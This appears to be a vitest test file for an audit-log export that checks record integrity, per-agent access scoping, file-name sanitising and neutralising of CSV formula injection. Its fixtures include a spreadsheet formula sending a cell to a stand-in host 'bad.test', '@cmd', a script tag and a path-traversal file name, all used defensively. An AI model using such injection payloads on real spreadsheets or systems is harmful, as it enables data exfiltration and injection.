import { afterAll, beforeAll, expect, test } from 'vitest'
import { putAgent } from '#lib/services/agent/put.ts'
import { promoteRollout } from '#lib/services/rollout/promote.ts'
import { after, anActor } from '#lib/testing/builders.ts'
import type { TestDatabase } from '#lib/testing/database.ts'
import { anAgentIn, openInstallation, refusalOf, valueOf } from '#lib/testing/installation.ts'
import { verdictOn } from '#lib/testing/record.ts'
import { parseAuditFilter, readAudit, readAuditChoices } from './audit.ts'
import { auditFile, type ExportFormat, fileName } from './auditFile.ts'

/** The record as a file: what is in it, for whom, and that a spreadsheet runs nothing of it. */

const formula = '=HYPERLINK("http://bad.test?"&A1)'
let house: TestDatabase
beforeAll(async () => {
  house = await openInstallation()
  const { db } = house
  await anAgentIn(db, { agent: 'billing-agent' })
  await anAgentIn(db, { agent: 'mail-agent' })
  for (const [index, name] of [
    formula,
    '+1',
    '-1',
    '@cmd',
    '<script>alert(1)</script>',
    'a,"b"\nc',
  ].entries()) {
    const given = { agent: 'billing-agent', displayName: name }
    valueOf(await putAgent(given, anActor({ name, id: `pe_${index}` }), { db, now: after(index) }))
  }
  const missing = await promoteRollout({ rolloutId: 'ro_none' }, anActor(), { db, now: after(90) })
  expect(refusalOf(missing)).toBe('missing')
})
afterAll(() => house.drop())

const fileOf = async (format: ExportFormat, asked: Record<string, string> = {}, actor = anActor()) => {
  let text = ''
  for await (const piece of auditFile(parseAuditFilter(asked), format, actor, house.db)) text += piece
  return text
}
const entriesOf = async (asked: Record<string, string>, actor = anActor()) =>
  (await fileOf('jsonl', asked, actor))
    .split('\n')
    .filter((line) => line !== '')
    .map((line) => JSON.parse(line) as Record<string, unknown>)

test('a whole file verifies, and holds every entry once in the order of writing', async () => {
  const lines = (await fileOf('jsonl')).trim().split('\n')
  expect(lines).toHaveLength(await house.db.auditEntry.count())
  expect((await verdictOn(lines)).faults).toEqual([])
})

test('no cell of a CSV begins as a formula does, and what is text stays text', async () => {
  const text = await fileOf('csv', { agent: 'billing-agent' })
  expect(text).toContain(`"'=HYPERLINK(""http://bad.test?""&A1)"`)
  for (const name of [`'+1`, `'-1`, `'@cmd`, '<script>alert(1)</script>', '"a,""b""\nc"'])
    expect(text).toContain(`,${name},`)
  const cells = text.split(/\r\n|,(?=(?:[^"]*"[^"]*")*[^"]*$)/)
  expect(cells.filter((cell) => /^"?[=+\-@\t]/.test(cell))).toEqual([])
  expect(text).toContain('2026-11-23T12:00:00.000Z')
})

test('a file is narrowed as the page is, and says so in its name', async () => {
  const asked = { agent: 'billing-agent', action: 'agent.change', actor: 'pe_2' }
  const entries = await entriesOf(asked)
  expect(entries.map((entry) => entry['actor'])).toMatchObject([{ name: '-1' }])
  expect((await readAudit(asked, anActor(), house.db)).entries).toHaveLength(1)
  expect(fileName(asked, 'csv')).toBe('audit_agent-billing-agent_action-agent.change_actor-pe_2.csv')
  expect(fileName({ agent: '../"x";\r\n' }, 'jsonl')).toBe('audit_agent-..-x-.jsonl')
  expect(await entriesOf({ outcome: 'refused' })).toMatchObject([
    { action: 'rollout.promote', reason: 'missing' },
  ])
  expect(await entriesOf({ from: '2026-11-23T12:00', until: '2026-11-23T12:00' })).not.toEqual([])
  expect(await entriesOf({ from: '2026-11-24' })).toEqual([])
})

test('whoever may see one agent finds nothing of another, however it is asked for', async () => {
  const actor = anActor({ agents: ['mail-agent'] })
  const all = await entriesOf({}, actor)
  expect(all.length).toBeGreaterThan(2)
  expect(new Set(all.map((entry) => entry['chain']))).toEqual(new Set(['mail-agent']))
  expect((await verdictOn(all.map((entry) => JSON.stringify(entry)))).faults).toEqual([])
  for (const asked of [{ agent: 'billing-agent' }, { actor: 'pe_2' }, { outcome: 'refused' }]) {
    expect(await entriesOf(asked, actor)).toEqual([])
    expect(await fileOf('csv', asked, actor)).not.toContain('billing')
    expect((await readAudit(asked, actor, house.db)).entries).toEqual([])
  }
  const choices = await readAuditChoices(actor, house.db)
  expect(choices.agents).toEqual(['mail-agent'])
  expect(choices.actors.map((each) => each.id)).toEqual(['pe_1'])
  const both = anActor({ agents: ['mail-agent', 'billing-agent'] })
  const positions = (await readAudit({}, both, house.db, 500)).entries.map((entry) => Number(entry.position))
  expect(positions).toEqual(positions.toSorted((a, b) => b - a))
  expect(positions).toHaveLength(await house.db.auditEntry.count({ where: { agent: { not: null } } }))
})
